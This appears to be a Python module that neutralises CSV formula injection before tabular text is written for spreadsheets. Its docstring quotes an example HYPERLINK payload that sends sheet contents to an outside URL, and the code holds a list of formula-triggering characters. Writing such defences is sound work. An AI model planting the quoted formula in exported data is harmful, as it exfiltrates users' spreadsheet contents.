"""Tab- and comma-separated text that is safe to open in a spreadsheet.

Every CSV/TSV fairway writes goes through :func:`table_text`. A cell whose text starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula by Excel,
LibreOffice or Google Sheets (a curator's keyword ``=HYPERLINK("http://…?d="&A1,"x")`` sends
the sheet's content away). Such a cell is neutralised the way OWASP describes ("CSV
Injection"): a single quote is put before it, so the spreadsheet shows it as text, and the cell
is quoted with its inner double quotes doubled.

A negative number (``-0.5``, ``-12``, ``-1.5e-3``) is left alone: it is shown to be numeric by a
strict pattern (an optional minus, digits, an optional fraction and exponent, nothing else), a
spreadsheet reads it as a number and evaluates nothing, and a quote before it would change the
value a reader (the BioImage Archive, a script) gets. Anything else starting with ``-`` (``-1+2``,
``-cmd``) is neutralised.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "safe_cell", "table_text"]

#: first characters that make a spreadsheet evaluate a cell
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def safe_cell(value: object, delimiter: str = "\t") -> str:
    """One cell as it is written: neutralised if a spreadsheet would run it, quoted if needed.

    ``None`` is an empty cell; a list is its items joined by ``", "`` (never a Python repr).
    """
    if value is None:
        return ""
    text = ", ".join(str(v) for v in value) if isinstance(value, list | tuple) else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return _quoted("'" + text)
    if any(ch in text for ch in (delimiter, '"', "\n", "\r")):
        return _quoted(text)
    return text


def table_text(rows: Iterable[Sequence[object]], delimiter: str = "\t") -> str:
    """The rows as delimited text, one line per row, every cell through :func:`safe_cell`."""
    return "".join(
        delimiter.join(safe_cell(cell, delimiter) for cell in row) + "\n" for row in rows
    )
